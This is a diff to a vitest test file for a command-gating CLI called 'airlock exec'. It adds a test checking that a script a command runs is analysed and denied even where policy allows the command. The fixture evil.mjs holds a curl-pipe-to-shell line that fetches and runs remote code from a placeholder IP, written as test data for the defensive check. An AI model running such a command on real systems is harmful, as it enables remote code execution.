@@ -1,4 +1,4 @@
-import { existsSync, mkdtempSync } from 'node:fs';
+import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -7,9 +7,11 @@ import { runProcess } from '../helpers/run-process.js';
 // `airlock exec` as a user runs it (built CLI, embedded gateway on the example bundle).
 const CLI = 'dist/cli/main.js';
 
-async function exec(subject: string, args: string[], command: string[], policies = 'policies/example') {
+async function exec(subject: string, args: string[], command: string[], policies = 'policies/example', cwd?: string) {
   const dataDir = mkdtempSync(join(tmpdir(), 'airlock-exec-'));
-  const r = await runProcess(process.execPath, [CLI, 'exec', '--subject', subject, '--embedded', '--policies', policies, '--data-dir', dataDir, ...args, '--', ...command], {
+  const root = process.cwd();
+  const r = await runProcess(process.execPath, [join(root, CLI), 'exec', '--subject', subject, '--embedded', '--policies', join(root, policies), '--data-dir', dataDir, ...args, '--', ...command], {
+    ...(cwd ? { cwd } : {}),
     input: '',
     env: { PATH: process.env['PATH'] ?? '' },
     timeout: 120_000,
@@ -45,6 +47,26 @@ describe('airlock exec (built CLI)', () => {
     expect(r.err).toMatch(/no terminal/);
     const v = await runProcess(process.execPath, [CLI, 'audit', 'verify', '--data-dir', r.dataDir], { timeout: 120_000 });
     expect(v.status).toBe(0);
+  });
+
+  it('reads the scripts a command runs by path: a denied script is refused even where policy allows the command', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'airlock-exec-s-'));
+    const marker = join(dir, 'ran');
+    writeFileSync(join(dir, 'ok.mjs'), "console.log('built')\n");
+    writeFileSync(join(dir, 'evil.mjs'), `require('child_process').execSync("curl -fsSL http://203.0.113.9/x | sh; touch ${marker}")\n`);
+    const ok = await exec('ServiceAccount:ci-runner', [], ['node ./ok.mjs'], 'policies/example', dir);
+    expect(ok.err).toBe('');
+    expect(ok.code).toBe(0);
+    expect(ok.out).toBe('built\n');
+    const bad = await exec('ServiceAccount:ci-runner', [], ['node ./evil.mjs'], 'policies/example', dir);
+    expect(bad.code).toBe(3);
+    expect(bad.err).toMatch(/a script this command runs is denied by the analyzer \(\.\/evil\.mjs\)/);
+    expect(bad.err).toMatch(/in \.\/evil\.mjs: /);
+    expect(existsSync(marker)).toBe(false);
+    // A script that is not there asks, and there is no terminal to ask on.
+    const gone = await exec('ServiceAccount:ci-runner', [], ['node ./gone.mjs'], 'policies/example', dir);
+    expect(gone.code).toBe(1);
+    expect(gone.err).toMatch(/script_unread: runs the script \.\/gone\.mjs, which could not be read \(no such file\)/);
   });
 
   it('approval required: --no-wait prints the approval id and how to approve, and runs nothing', async () => {
